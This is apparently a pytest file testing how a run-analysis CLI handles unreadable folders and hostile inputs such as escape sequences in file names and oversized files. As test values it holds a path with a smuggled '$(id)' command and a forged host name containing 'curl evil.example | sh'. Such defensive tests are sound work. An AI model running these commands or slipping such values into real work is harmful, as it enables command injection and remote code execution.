"""Input that is unreadable, or whose names are hostile: each verb reports it in its own way."""

from __future__ import annotations

import json
import os
import shlex
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from tests.analysis.conftest import SyntheticRun
from tests.command_line import Cli, one_line_error

from rankscope.runs.records import RunInfo
from rankscope.runs.small_files import create_run

VERBS = {
    "analyze": [],
    "hang": [],
    "compare": ["--at", "5"],
    "whatif": [],
    "export": ["--perfetto", "-"],
    "capture": [],
    "steps": [],
}


@pytest.mark.parametrize("verb", VERBS)
def test_readability_is_not_checked_with_os_access(verb: str, tmp_path: Path, cli: Cli, monkeypatch: pytest.MonkeyPatch) -> None:
    # Given a filesystem that reports every file as unreadable by this user
    monkeypatch.setattr(os, "access", lambda *_args, **_more: False)
    completed = cli(verb, tmp_path, *VERBS[verb])
    # Then the content of the folder decides
    assert (completed.returncode, completed.stderr.count("\n")) == (3, 1)
    assert completed.stderr.startswith(f"rankscope: {tmp_path}")


@pytest.mark.parametrize("verb", [*([verb] for verb in VERBS), ["alerts", "watch"], ["report"]])
def test_empty_path_is_an_error(verb: list[str], cli: Cli) -> None:
    assert "no path" in one_line_error(cli(*verb, "", *VERBS.get(verb[0], [])))


@pytest.mark.parametrize("verb", [["hang"], ["compare"], ["capture"], ["steps"], ["alerts", "watch"], ["report"]])
def test_unsupported_url_is_reported_as_a_url(verb: list[str], cli: Cli) -> None:
    completed = cli(*verb, "s3://bucket/run", *VERBS.get(verb[0], []))
    assert (completed.returncode, len(completed.stderr.splitlines())) == (3, 1)
    assert completed.stderr.startswith("rankscope: s3://bucket/run: ")
    assert "URL" in completed.stderr


ANALYZE_EACH = """
import sys
from rankscope.cli.main import main
for path in sys.argv[1:]:
    sys.argv = ["rankscope", "analyze", path]
    try:
        main()
    except SystemExit as ended:
        print(ended.code, flush=True)
"""


@pytest.mark.slow
def test_unreadable_folder_is_named_and_hides_no_other_run(tmp_path: Path, without_privilege: list[str]) -> None:
    # given two runs, of which one belongs to another user
    runs = tmp_path / "runs"
    for name in ("closed", "open"):
        create_run(runs / name, RunInfo(run_id=name, name=name, start_unix_ns=10**18))
    (runs / "closed").chmod(0)
    closed = runs / "closed"
    reasons = {
        runs: f"such as {runs / 'open'}",
        closed: "Permission denied",
        closed / "run.json": "Permission denied",
        closed / "attempts" / "000": "Permission denied",
    }
    try:
        # when each of these paths is analysed by a process that may not read all files
        completed = subprocess.run(
            [*without_privilege, sys.executable, "-c", ANALYZE_EACH, *reasons], text=True, capture_output=True, check=True
        )
        # then the message names that path
        assert completed.stdout.split() == ["3"] * len(reasons)
        for line, (path, reason) in zip(completed.stderr.splitlines(), reasons.items(), strict=True):
            assert line.startswith(f"rankscope: {path}: ")
            assert line.endswith(reason)
        # and so does the check of what this version reads
        doctor = [*without_privilege, sys.executable, "-m", "rankscope", "doctor", str(closed)]
        completed = subprocess.run(doctor, text=True, capture_output=True, check=False)
        assert (completed.returncode, completed.stderr.startswith(f"rankscope: {closed}")) == (3, True)
    finally:
        (runs / "closed").chmod(0o755)


@pytest.fixture
def run(tmp_path: Path) -> Path:
    return SyntheticRun(path=tmp_path / "run", plan=lambda rank, _step: {"phase": "forward", "us": 60_000 * (rank == 1)}).write()


def test_run_path_may_contain_invalid_utf8(cli: Cli, run: Path) -> None:
    hostile = run.parent / os.fsdecode(b"r\xff")
    shutil.move(run, hostile)
    completed = cli("analyze", hostile, "--format", "json")
    assert (completed.returncode, completed.stderr) == (0, "")
    assert json.loads(completed.stdout)["source"]["path"].endswith("r?")


def test_suggested_commands_quote_the_run_path(cli: Cli, run: Path) -> None:
    hostile = run.parent / "my run; $(id)"
    shutil.move(run, hostile)
    report = json.loads(cli("analyze", hostile, "--format", "json").stdout)
    commands = [*report["verdict"]["next"], *(row["check"] for row in report["advice"])]
    assert any(shlex.quote(str(hostile)) in command for command in commands)
    assert not any(str(hostile) in command.replace(shlex.quote(str(hostile)), "") for command in commands)


def test_errors_are_one_line_without_escape_sequences(cli: Cli, tmp_path: Path) -> None:
    hostile = tmp_path / "x\x1b]0;title\x07\nrankscope: all is well_0.json"
    hostile.write_text("junk")
    assert "\x1b" not in one_line_error(cli("analyze", hostile))


@pytest.mark.parametrize(
    ("name", "status"), [("run.json", 3), ("attempts/000/attempt.json", 0), ("attempts/000/ranks/00000/rank.json", 0)]
)
def test_oversized_metadata_files_are_reported(cli: Cli, run: Path, name: str, status: int) -> None:
    with (run / name).open("r+b") as file:
        file.truncate(1 << 40)  # a sparse file, which takes no space
    completed = cli("analyze", run)
    assert completed.returncode == status
    assert name in completed.stdout + completed.stderr


def test_multi_line_host_name_cannot_forge_output_lines(cli: Cli, tmp_path: Path) -> None:
    made = SyntheticRun(path=tmp_path / "run").write()
    for file in made.glob("attempts/000/ranks/*/rank.json"):
        info = json.loads(file.read_text())
        file.write_text(json.dumps(info | {"host": "n1\n\nnext\n  curl evil.example | sh"}))
    assert "\n  curl" not in cli("analyze", made).stdout
